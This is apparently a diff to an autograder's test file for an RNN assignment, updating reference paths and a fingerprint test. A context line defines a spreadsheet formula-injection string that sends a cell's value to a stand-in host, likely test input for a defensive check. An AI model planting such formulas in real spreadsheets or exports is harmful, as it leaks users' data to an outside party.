@@ -20,7 +20,8 @@ from autograder.progress import Progress
 from tests.bug_bank import build_submission, load_bugs
 
 ROOT = Path(__file__).resolve().parents[1]
-SOLUTION, BUGGY, STUBS = ROOT / "reference" / "solution", ROOT / "reference" / "samples" / "buggy", \
+SOLUTION, BUGGY, STUBS = ROOT / "reference" / "rnn_bptt" / "solution", \
+    ROOT / "reference" / "rnn_bptt" / "samples" / "buggy", \
     ROOT / "assignments" / "rnn_bptt"
 EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
 
@@ -255,7 +256,12 @@ def test_an_internal_error_gives_a_valid_report_that_is_graded_again(monkeypatch
 def test_fingerprint_depends_on_the_secret_without_revealing_it():
     assert fingerprint() == fingerprint() != fingerprint(b"course secret") != fingerprint(b"other secret")
     assert b"course secret".hex() not in fingerprint(b"course secret")
-    assert fingerprint(assignment="rnn_bptt") != fingerprint(assignment="gated_rnn")
+    from dataclasses import replace
+
+    from autograder.assignment import load
+
+    other = replace(load("rnn_bptt"), name="rnn_bptt_variant")
+    assert fingerprint(assignment="rnn_bptt") != fingerprint(assignment=other)
 
 
 def test_bug_bank_submission_in_a_class_folder(tmp_path):
